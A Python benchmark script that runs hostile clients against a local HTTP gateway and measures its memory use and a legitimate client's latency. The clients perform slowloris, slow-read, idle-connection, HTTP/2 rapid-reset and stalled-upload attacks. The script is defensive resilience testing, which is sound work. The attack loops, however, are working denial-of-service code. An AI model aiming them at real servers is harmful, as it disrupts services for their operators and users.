"""Hostile clients against one gateway process: memory and a legitimate client's latency.

    .venv/bin/python bench/attacks.py                 # every scenario, a few seconds each
    .venv/bin/python bench/attacks.py slowread        # one scenario

Scenarios (all on 127.0.0.1, one plain-HTTP base and one HTTPS base in front of the stand-in),
each held 65 s, past the default 60 s client timeouts:
  slowloris  200 connections sending an endless request head, one header line every 5 s
  slowread   100 clients asking for a 2 MB answer and never reading it
  idle       1000 TCP connections that send nothing, plus 100 TLS handshakes without a request
  reset      HTTP/2 rapid reset: HEADERS + RST_STREAM pairs as fast as possible for 3 s
  h1body     200 HTTP/1.1 uploads to a user_auth base without credentials, `Content-Length:
             4000000`, the body stalling 1 KB short (issue 24); each client then reads its
             answer, as curl and httpcore do, and the count of those that read a 401 is printed
  h1heads    the same 200 connections with `Content-Length: 0`: what the connections alone cost
  h2body     2 HTTP/2 connections x 100 streams to a user_auth base without credentials, bodies
             without content-length, 3.5 MB each (issue 24)
  upload1g   one authenticated upload of 1 GiB (ATTACK_UPLOAD_MIB to change the size)
The body scenarios print the RSS added at its peak while the attack runs and 60 s after the
clients left (ATTACK_AFTER), summed over the gateway's processes, and the load average.
For each: the gateway's RSS (from /proc) before, at 8 s and at 65 s, the median and worst
latency of a legitimate client (its own address, 127.0.0.2) during the attack, how many attack
connections the gateway still holds, and (reset) its CPU seconds in the 10 s after the attack.
Figures go to stdout as one line per scenario; docs/PERFORMANCE.md records them.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import httpx  # noqa: E402

import yaml  # noqa: E402

from bench.procs import RssSampler, tree_cpu_seconds, tree_rss  # noqa: E402
from tests.clients import LegitClient, unverified_tls_context  # noqa: E402
from tests.harness import base_entry, cli_ok, gateway_config, start_gateway, start_standin  # noqa: E402


def rss_mib(pid: int) -> float:
    return tree_rss(pid) / 2**20


def still_open(socks: list[socket.socket]) -> int:
    """Attack connections the gateway has not closed (a closed one reads EOF or errors)."""
    count = 0
    for s in socks:
        try:
            s.setblocking(False)
            data = s.recv(65536)
            if data:
                count += 1  # an answer (e.g. 431) but not closed yet counts as open
        except (BlockingIOError, ssl.SSLWantReadError):
            count += 1
        except OSError:
            pass
    return count


def slowloris(http_port: int) -> list[socket.socket]:
    socks = []
    for _ in range(200):
        s = socket.create_connection(("127.0.0.1", http_port))
        s.sendall(b"GET /echo HTTP/1.1\r\nHost: x\r\n")
        socks.append(s)
    return socks


def trickle(socks: list[socket.socket], stop: threading.Event) -> None:
    """Slowloris proper: one more header line per connection every 5 s, the head never ends."""
    n = 0
    while not stop.wait(5):
        n += 1
        for s in socks:
            try:
                s.send(b"X-%d: b\r\n" % n)
            except OSError:
                pass


def slowread(http_port: int) -> list[socket.socket]:
    socks = []
    for _ in range(100):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", http_port))
        s.sendall(b"GET /bytes?n=2000000 HTTP/1.1\r\nHost: x\r\n\r\n")
        socks.append(s)
    return socks


def idle(http_port: int, https_port: int) -> list[socket.socket]:
    socks = []
    for i in range(1000):
        try:
            socks.append(socket.create_connection(("127.0.0.1", http_port)))
        except OSError:
            pass
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    for _ in range(100):
        try:
            raw = socket.create_connection(("127.0.0.1", https_port), source_address=("127.0.0.3", 0))
            socks.append(ctx.wrap_socket(raw))
        except OSError:
            pass
    return socks


def rapid_reset(https_port: int, seconds: float) -> tuple[int, bool]:
    import h2.config
    import h2.connection
    import h2.events

    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sent = 0
    goaway = False
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", https_port)))
        except OSError:
            time.sleep(0.1)
            continue
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        s.sendall(conn.data_to_send())
        s.settimeout(0.001)
        try:
            while time.monotonic() < end:
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, [(":method", "GET"), (":path", "/slow?seconds=5"), (":scheme", "https"),
                                            (":authority", "x")])
                    conn.reset_stream(sid)
                    sent += 1
                s.sendall(conn.data_to_send())
                try:
                    data = s.recv(65536)
                    if not data:
                        break
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            goaway = True
                            raise OSError("goaway")
                except (socket.timeout, ssl.SSLWantReadError):
                    pass
        except Exception:
            pass
        finally:
            s.close()
    return sent, goaway


# --- request bodies (issue 24) ---------------------------------------------------------------

BODY_PASSWORD = "Obmen2024bench"


def h1_body_attack(port: int, connections: int = 200, length: int = 4_000_000) -> tuple[list[socket.socket], int]:
    """Each connection announces `length` bytes and sends all but the last KB, then stalls.

    Returns the sockets and how many of them read the gateway's 401: each client, once its
    sending ends or fails, reads as curl and httpcore do (a server may answer before the body)."""
    ctx = unverified_tls_context(["http/1.1"])
    head = (b"POST /api/v1/Products HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
            b"Content-Length: %d\r\n\r\n" % length)
    socks: list[socket.socket] = []
    answered = 0
    lock = threading.Lock()

    def one(i: int) -> None:
        nonlocal answered
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=30,
                                           source_address=(f"127.0.0.{10 + i % 50}", 0))
            s = ctx.wrap_socket(raw)
        except OSError:
            return
        with lock:
            socks.append(s)
        try:
            s.sendall(head)
            chunk = b"x" * 65536
            left = length - 1024
            while left > 0:
                left -= s.send(chunk[:min(left, len(chunk))])
        except OSError:
            pass  # answered and closed from the head: what the gateway should do
        try:
            s.settimeout(5)
            if s.recv(64).startswith(b"HTTP/1.1 401 "):
                with lock:
                    answered += 1
        except OSError:
            pass

    threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    return socks, answered


def h2_body_attack(port: int, connections: int = 2, streams: int = 100, size: int = 3_500_000) -> list[socket.socket]:
    """Bodies without content-length on many streams, as fast as flow control lets them go."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions

    socks: list[socket.socket] = []

    def one(i: int) -> None:
        try:
            s = unverified_tls_context(["h2"]).wrap_socket(socket.create_connection(
                ("127.0.0.1", port), timeout=30, source_address=(f"127.0.0.{60 + i}", 0)))
        except OSError:
            return
        socks.append(s)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        s.sendall(conn.data_to_send())
        ids = []
        for _ in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "POST"), (":path", "/api/v1/Products"), (":scheme", "https"),
                                    (":authority", "x"), ("content-type", "application/octet-stream")])
            ids.append(sid)
        s.sendall(conn.data_to_send())
        sent = dict.fromkeys(ids, 0)
        closed: set[int] = set()
        s.settimeout(10)  # sends block while the gateway does not read: that is the defence working
        deadline = time.monotonic() + 60
        try:
            while time.monotonic() < deadline and len(closed) < len(ids):
                for sid in ids:
                    if sid in closed or sent[sid] >= size:
                        continue
                    room = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size, size - sent[sid])
                    if room > 0:
                        try:
                            conn.send_data(sid, b"x" * room)
                        except h2.exceptions.StreamClosedError:
                            closed.add(sid)
                            continue
                        sent[sid] += room
                s.sendall(conn.data_to_send())
                if all(sent[sid] >= size for sid in ids if sid not in closed):
                    break
                try:
                    if not s.pending() and not select.select([s], [], [], 0.01)[0]:
                        continue
                    data = s.recv(65536)
                    if not data:
                        return
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.StreamReset):
                            closed.add(event.stream_id)
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            return
                    s.sendall(conn.data_to_send())
                except ssl.SSLWantReadError:
                    pass
        except OSError:
            pass
        except Exception as e:  # a broken attack client must not pass for a harmless attack
            print(f"h2body client {i}: {type(e).__name__}: {e}", file=sys.stderr)
        print(f"h2body client {i}: {sum(sent.values()) >> 20} MiB sent, {len(closed)} streams reset",
              file=sys.stderr)

    threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(90)
    return socks


def authenticated_upload(url: str, size: int) -> tuple[int, float]:
    """(status, seconds) of one upload of `size` bytes with Basic credentials."""
    chunk = b"u" * (1 << 20)

    def body() -> Any:
        left = size
        while left > 0:
            piece = chunk[:min(left, len(chunk))]
            left -= len(piece)
            yield piece

    start = time.monotonic()
    with httpx.Client(verify=False, timeout=120, auth=("obmen", BODY_PASSWORD)) as client:
        r = client.post(url, content=body(), headers={"Content-Length": str(size)})
    return r.status_code, time.monotonic() - start


def body_scenarios(names: list[str]) -> None:
    after = float(os.environ.get("ATTACK_AFTER", "60"))
    with tempfile.TemporaryDirectory() as tmp:
        tmp_path = Path(tmp)
        standin = start_standin(tmp_path / "standin.log")
        try:
            for name in names:
                directory = tmp_path / name
                directory.mkdir()
                base = base_entry(standin, "auth", user_auth=True, client_max_body_size=0)
                config = gateway_config(directory, standin, bases=[base],
                                        workers=int(os.environ.get("ATTACK_WORKERS", "2")))
                (directory / "gateway.yaml").write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
                cli_ok(directory, "group", "add", "Obmen", "--role", "external", "--doc-type", "Поступление")
                cli_ok(directory, "user", "add", "obmen", "--group", "Obmen", "--password-stdin",
                       input=BODY_PASSWORD + "\n")
                gw = start_gateway(directory, config)
                try:
                    pid = gw.process.pid
                    if name == "upload1g":
                        # The first login runs argon2 (64 MiB while it hashes): done before the
                        # baseline, so that the figure is the upload's. Every worker, as the
                        # kernel picks one per connection.
                        for _ in range(6):
                            authenticated_upload(gw.url("auth", path="/api/v1/Products"), 1024)
                    time.sleep(2)
                    before = rss_mib(pid)
                    start = time.monotonic()
                    with RssSampler(pid) as sampler:
                        if name == "h1body":
                            socks, answered = h1_body_attack(gw.port("auth"))
                            detail = f"{len(socks)} connections, {answered} read their 401"
                        elif name == "h1heads":
                            socks, answered = h1_body_attack(gw.port("auth"), length=0)
                            detail = (f"{len(socks)} connections, heads only (the cost of the connections), "
                                      f"{answered} read their 401")
                        elif name == "h2body":
                            socks = h2_body_attack(gw.port("auth"))
                            detail = f"{len(socks)} connections x 100 streams"
                        else:
                            socks = []
                            mib = int(os.environ.get("ATTACK_UPLOAD_MIB", "1024"))
                            status, seconds = authenticated_upload(gw.url("auth", path="/api/v1/Products"), mib << 20)
                            detail = f"{mib} MiB upload answered {status} in {seconds:.1f} s"
                        time.sleep(1)
                    during = sampler.peak / 2**20
                    held = time.monotonic() - start
                    for s in socks:
                        s.close()
                    time.sleep(after)
                    later = rss_mib(pid)
                    print(f"{name}: RSS {before:.0f} MiB before; peak +{during - before:.0f} MiB while it ran "
                          f"({held:.0f} s, {detail}); +{later - before:.0f} MiB ({(later - before) / before:+.1%} of the "
                          f"baseline) {after:.0f} s after the clients left; load average "
                          f"{' '.join(f'{x:.1f}' for x in os.getloadavg())}",
                          flush=True)
                finally:
                    gw.stop()
        finally:
            standin.stop()


EARLY, LATE = 8.0, float(os.environ.get("ATTACK_LATE", "65"))  # seconds: before and after the 60 s timeouts


BODY_SCENARIOS = ("h1heads", "h1body", "h2body", "upload1g")


def main(selected: list[str]) -> None:
    scenarios = selected or ["slowloris", "slowread", "idle", "reset", *BODY_SCENARIOS]
    bodies = [name for name in scenarios if name in BODY_SCENARIOS]
    scenarios = [name for name in scenarios if name not in BODY_SCENARIOS]
    if bodies:
        body_scenarios(bodies)
    with tempfile.TemporaryDirectory() as tmp:
        tmp_path = Path(tmp)
        standin = start_standin(tmp_path / "standin.log")
        try:
            plain = base_entry(standin, "plain", https=False)
            tls = base_entry(standin, "tls")
            for name in scenarios:
                gw = start_gateway(tmp_path / name, gateway_config(tmp_path, standin, bases=[plain, tls]))
                try:
                    pid = gw.process.pid
                    legit = LegitClient(gw.url("plain", path="/echo"))
                    time.sleep(0.5)
                    before = rss_mib(pid)
                    legit.start()
                    start = time.monotonic()
                    if name == "reset":
                        sent, goaway = rapid_reset(gw.port("tls"), 3)
                        cpu0 = tree_cpu_seconds(pid)
                        time.sleep(10)
                        peak = rss_mib(pid)
                        legit.stop()
                        print(f"reset: RSS {before:.0f} → {peak:.0f} MiB (+{peak - before:.0f}), {legit.summary()}, "
                              f"log {gw.log_path.stat().st_size / 1024:.0f} KiB, {sent} HEADERS+RST sent in 3 s, "
                              f"GOAWAY {'received' if goaway else 'never sent'}, "
                              f"CPU {tree_cpu_seconds(pid) - cpu0:.1f} s in the 10 s after", flush=True)
                        continue
                    stop = threading.Event()
                    if name == "slowloris":
                        socks = slowloris(gw.port("plain"))
                        threading.Thread(target=trickle, args=(socks, stop), daemon=True).start()
                    elif name == "slowread":
                        socks = slowread(gw.port("plain"))
                    else:
                        socks = idle(gw.port("plain"), gw.port("tls"))
                    time.sleep(max(0.0, EARLY - (time.monotonic() - start)))
                    early_rss, early_open = rss_mib(pid), still_open(socks)
                    early_legit = legit.summary()
                    time.sleep(max(0.0, LATE - (time.monotonic() - start)))
                    late_rss, late_open = rss_mib(pid), still_open(socks)
                    stop.set()
                    legit.stop()
                    for s in socks:
                        s.close()
                    print(f"{name}: RSS {before:.0f} → {early_rss:.0f} MiB at {EARLY:.0f} s → {late_rss:.0f} MiB at "
                          f"{LATE:.0f} s; attack connections open {early_open}/{len(socks)} at {EARLY:.0f} s, "
                          f"{late_open} at {LATE:.0f} s; during the first {EARLY:.0f} s {early_legit}; "
                          f"whole run {legit.summary()}; log {gw.log_path.stat().st_size / 1024:.0f} KiB", flush=True)
                finally:
                    gw.stop()
        finally:
            standin.stop()


if __name__ == "__main__":
    main(sys.argv[1:])
